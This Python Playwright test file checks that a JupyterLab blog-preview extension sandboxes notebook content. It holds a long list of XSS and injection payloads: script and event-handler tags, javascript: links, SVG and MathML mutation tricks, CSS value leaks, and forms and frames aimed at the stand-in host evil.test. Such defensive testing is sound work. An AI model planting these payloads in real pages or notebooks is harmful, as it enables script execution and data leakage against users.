"""Whatever stands in a notebook, nothing of it runs, leaves or asks for anything in the live preview."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Frame, Page, Route

from tests.lab_hosts import KERNEL, LabServer, host, lab_server
from tests.lab_page import LabPage, lab_page
from tests.web import chromium

OUTSIDE = "http://evil.test"
RUN = "for (const w of [window, parent, top]) { try { w.canary = 1 } catch {} }"
"""What an attack does if it runs; a script of the frame itself, or of what is around it, would be seen."""
JS = f"javascript:{RUN}".replace('"', "&quot;")

MARKDOWN = {
    "script": f"<script>{RUN}</script>",
    "script-module": f'<script type="module">{RUN}</script>',
    "script-outside": f'<script src="{OUTSIDE}/a.js"></script>',
    "img-onerror": f'<img src="x" onerror="{RUN}">',
    "svg-onload": f'<svg onload="{RUN}"><circle r="9"/></svg>',
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-foreign-object": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "svg-use": f'<svg><use href="{OUTSIDE}/a.svg#x"/></svg>',
    "svg-animate-href": f'<svg><a><animate attributeName="href" values="{JS}"/><text y="20">text</text></a></svg>',
    "svg-set-href": f'<svg><a><set attributeName="href" to="{JS}"/><text y="20">text</text></a></svg>',
    "svg-image": f'<svg><image href="{OUTSIDE}/a.png" width="9" height="9"/></svg>',
    "details-ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary>y</details>',
    "autofocus": f'<input autofocus onfocus="{RUN}">',
    "media-onerror": f'<video src=x onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    "animation-event": f'<style>@keyframes k {{}}</style><p style="animation: k 1s" onanimationstart="{RUN}">x</p>',
    "link-javascript": f'<a href="{JS}">x</a>',
    "link-markdown": f"[x]({JS.replace(' ', '%20')}) [y]: <{JS}>",
    "link-data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "link-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link-tabs": f'<a href="java&#9;script:{RUN}">x</a>',
    "link-top": f'<a target="_top" href="{JS}">x</a>',
    "link-ping": f'<a href="#x" ping="{OUTSIDE}/ping">x</a>',
    "link-download": f'<a download href="{JS}">x</a>',
    "form": f'<form action="{OUTSIDE}/form"><input name="a" value="b"><button>go</button></form>',
    "form-javascript": f'<form action="{JS}"><button>go</button></form>',
    "formaction": f'<form><button formaction="{OUTSIDE}/go">go</button><input type="image" src="{OUTSIDE}/i"></form>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/meta">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": f'<base href="{OUTSIDE}/"><img src="a.png"><a href="b">x</a>',
    "iframe": f'<iframe src="{OUTSIDE}/frame"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="{JS}"></iframe>',
    "object": f'<object data="{OUTSIDE}/object"></object>',
    "object-data": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f'<embed src="{OUTSIDE}/embed"><embed src="{JS}">',
    "style-import": f'<style>@import url("{OUTSIDE}/a.css");</style>',
    "style-url": f'<style>body {{ background: url("{OUTSIDE}/bg.png") }}</style>',
    "style-attribute": f'<p style="background: url({OUTSIDE}/p.png); list-style: url({OUTSIDE}/l.png)">x</p>',
    "style-selectors": f'<style>input[value^="a"] {{ background: url({OUTSIDE}/a) }}</style><input value="ab">',
    "style-font": f"<style>@font-face {{ font-family: f; src: url({OUTSIDE}/f) }} p {{ font: 1em f }}</style><p>x</p>",
    "link-stylesheet": f'<link rel="stylesheet" href="{OUTSIDE}/a.css">',
    "link-preload": f'<link rel="preload" as="image" href="{OUTSIDE}/p">',
    "link-prefetch": f'<link rel="prefetch" href="{OUTSIDE}/p"><link rel="dns-prefetch" href="//evil.test">',
    "image": f"![]({OUTSIDE}/a.png)",
    "srcset": f'<img srcset="{OUTSIDE}/a.png 2x"><picture><source srcset="{OUTSIDE}/b.png"><img src="x"></picture>',
    "video-poster": f'<video poster="{OUTSIDE}/p.png" src="{OUTSIDE}/v.mp4"><track src="{OUTSIDE}/t"></video>',
    "shadow-root": f'<div><template shadowrootmode="open"><img src=x onerror="{RUN}"></template></div>',
    "custom-element": f'<x-element onclick="{RUN}" is="x">x</x-element>',
    "clobbering": '<img id="body"><form id="documentElement"><input name="dataset"></form><a id="head">x</a>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation-style": f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    "mutation-math": f'<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{RUN}">',
    "mutation-title": f'<title><a title="</title><img src=x onerror={RUN}>">x</a></title>',
    "math-href": f'<math href="{JS}"><mi>x</mi></math>',
    "math-action": f'<math><maction actiontype="statusline#{JS}"><mi>x</mi></maction></math>',
    "latex-href": r"$\href{javascript:parent.canary=1}{x}$",
    "out-of-frame": f"</iframe></div></body></html><script>{RUN}</script>",
    "comment": f"<!-- --!><script>{RUN}</script> -->",
}
OUTPUTS = {
    "output-html": {"text/html": f'<script>{RUN}</script><img src=x onerror="{RUN}"><a href="{JS}">x</a>'},
    "output-html-outside": {"text/html": f'<img src="{OUTSIDE}/o.png"><style>@import "{OUTSIDE}/o.css"</style>'},
    "output-svg": {
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
    },
    "output-svg-outside": {
        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{OUTSIDE}/s.png" height="9"/></svg>'
    },
    "output-markdown": {"text/markdown": f'<img src=x onerror="{RUN}">\n\n![]({OUTSIDE}/m.png)'},
    "output-javascript": {"application/javascript": RUN, "text/plain": "x"},
    "output-plotly": {
        "application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [1]}], "layout": {"title": RUN}}
    },
}
FRONT = f'<img src=x onerror="{RUN}">"\'</title><script>{RUN}</script>'
METADATA = {f"front-{key}": {key: FRONT} for key in ("title", "description", "series", "author", "image")} | {
    "front-tags": {"tags": [FRONT]},
    "front-canonical": {"canonical-url": JS},
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabServer]:
    """A blog in the newest JupyterLab."""
    folder = tmp_path_factory.mktemp("attacked")
    (folder / "notebooks").mkdir()
    (folder / "blogtools.toml").write_text('title = "Attacked"\nbase_url = "https://blog.example.org/"\n')
    with lab_server(host("lab"), folder) as running:
        yield running


class Target:
    """The preview of one notebook, and all that happens on its page."""

    def __init__(self, lab: LabPage) -> None:
        self.lab = lab
        self.requests: list[str] = []
        self.popups: list[str] = []
        lab.page.context.route(f"{OUTSIDE}/**", self._stop)
        lab.page.context.on("page", self._popup)

    @property
    def frame(self) -> Frame:
        """The frame of the preview."""
        found = self.lab.page.query_selector(".blogtools-stage iframe")
        frame = found.content_frame() if found else None
        assert frame is not None
        return frame

    def show(self, cells: list[dict[str, Any]]) -> None:
        """Put cells into the notebook, out of JupyterLab's own sight, and wait until the page shows them."""
        self.requests.clear()
        self.popups.clear()
        self.lab.page.evaluate("delete window.canary")
        self.lab.in_notebook(SHOW, cells)

    def _stop(self, route: Route) -> None:
        """A request that the policy of the page did not stop; nobody else gets it either."""
        # What JupyterLab itself loads for a notebook is not the preview's doing, nor is a tab that a click opened.
        if self._is_of_preview(route):
            self.requests.append(route.request.url)
        route.abort()

    def _is_of_preview(self, route: Route) -> bool:
        try:
            frame = route.request.frame
        except Error:
            return False  # The first request of a tab, which has no frame yet.
        return frame.page == self.lab.page and frame != self.lab.page.main_frame

    def _popup(self, page: Page) -> None:
        self.popups.append(page.url)
        page.close()


SHOW = """async (panel, cells) => {
  const notebook = panel.content.model.sharedModel;
  notebook.transact(() => {
    notebook.deleteCellRange(0, notebook.cells.length);
    notebook.insertCells(0, cells);
  });
  for (const cell of panel.content.widgets) {
    cell.inputHidden = true;
    cell.outputHidden = true;
  }
  const preview = [...window.jupyterapp.shell.widgets('main')].find((widget) => widget.post && widget.frame);
  await preview.post.settled();
  await new Promise((done) => setTimeout(done, 60));
}"""
CLICK = """() => {
  const page = document.querySelector('.blogtools-stage iframe').contentDocument;
  for (const element of page.querySelectorAll('.post-body *, header *')) {
    if (element.matches('a, button, summary, input, math, x-element, text, p')) {
      element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    }
  }
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One Chromium for all attacks."""
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def target(server: LabServer, browser: Browser) -> Iterator[Target]:
    """One page for all attacks."""
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": KERNEL, "cells": []}
    (server.root / "notebooks/a.ipynb").write_text(json.dumps(notebook))
    with lab_page(browser, server, "notebooks/a.ipynb") as lab:
        lab.run("blogtools:preview")
        lab.page.frame_locator(".blogtools-stage iframe").locator("h1").wait_for()
        yield Target(lab)


def markdown(source: str) -> dict[str, Any]:
    """A Markdown cell."""
    return {"cell_type": "markdown", "metadata": {}, "source": source}


ATTACKS: dict[str, list[dict[str, Any]]] = {
    **{name: [markdown(source)] for name, source in MARKDOWN.items()},
    **{
        f"raw-{name}": [{"cell_type": "raw", "metadata": {}, "source": MARKDOWN[name]}]
        for name in ("script", "form", "base")
    },
    **{
        name: [
            {
                "cell_type": "code",
                "metadata": {},
                "source": f"#| fig-cap: '{FRONT[:40]}'\n#| fig-alt: '{FRONT[:40]}'\nx",
                "execution_count": 1,
                "outputs": [{"output_type": "display_data", "metadata": {}, "data": data}],
            }
        ]
        for name, data in OUTPUTS.items()
    },
    **{
        name: [{"cell_type": "raw", "metadata": {}, "source": f"---\n{json.dumps(said)}\n---"}]
        for name, said in METADATA.items()
    },
    "heading": [markdown(f"# {FRONT}\n\n## {FRONT}\n\n## {FRONT}")],
    "footnote": [markdown(f"x[^1]\n\n[^1]: {FRONT}")],
}


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_runs_leaves_or_asks(name: str, target: Target) -> None:
    """When it is shown, and when all that can be clicked is clicked."""
    page = target.lab.page
    before = page.url
    # What comes before and after is shown whatever stands between.
    target.show([*ATTACKS[name], markdown("The end.")])
    page.evaluate(CLICK)
    page.wait_for_timeout(60)
    assert "The end." in target.frame.locator("body").inner_text()
    assert "/blogtools/page/" in page.evaluate(
        "document.querySelector('.blogtools-stage iframe').contentWindow.location.href"
    )
    assert page.evaluate("window.canary ?? null") is None
    assert page.evaluate("document.querySelector('.blogtools-stage iframe').contentWindow.canary ?? null") is None
    assert [] == target.requests
    assert page.url == before
    # An ordinary link that was clicked opens a tab, which has nothing to do with this one.
    assert [url for url in target.popups if not url.startswith((OUTSIDE, "about:blank", "chrome-error:"))] == []


def test_the_attacks_would_be_seen(target: Target) -> None:
    """In a frame that is no sandbox and has no policy, they run and ask."""
    page = target.lab.page
    target.requests.clear()
    html = MARKDOWN["img-onerror"] + MARKDOWN["image"].replace("![](", '<img src="').replace(")", '">')
    page.evaluate("delete window.canary")
    page.evaluate(
        "html => { const f = document.createElement('iframe'); f.srcdoc = html; document.body.append(f); }", html
    )
    page.wait_for_function("window.canary === 1")
    assert [f"{OUTSIDE}/a.png"] == target.requests
    page.evaluate("document.querySelector('body > iframe').remove()")


def test_the_frame_is_a_sandbox(server: LabServer, target: Target) -> None:
    """By its attribute, and by the header of what it loads."""
    assert target.lab.page.get_attribute(".blogtools-stage iframe", "sandbox") == "allow-same-origin"
    address = target.lab.page.get_attribute(".blogtools-stage iframe", "src")
    policy = target.lab.page.request.get(
        f"{server.url.rstrip('/')}{address}" if address and address[0] == "/" else address or ""
    ).headers
    assert "sandbox allow-same-origin" in policy["content-security-policy"]
    assert "default-src 'none'" in policy["content-security-policy"]
    assert "script-src" not in policy["content-security-policy"]
    assert policy["x-content-type-options"] == "nosniff"


def test_there_are_many() -> None:
    """At least thirty."""
    assert len(ATTACKS) >= 60
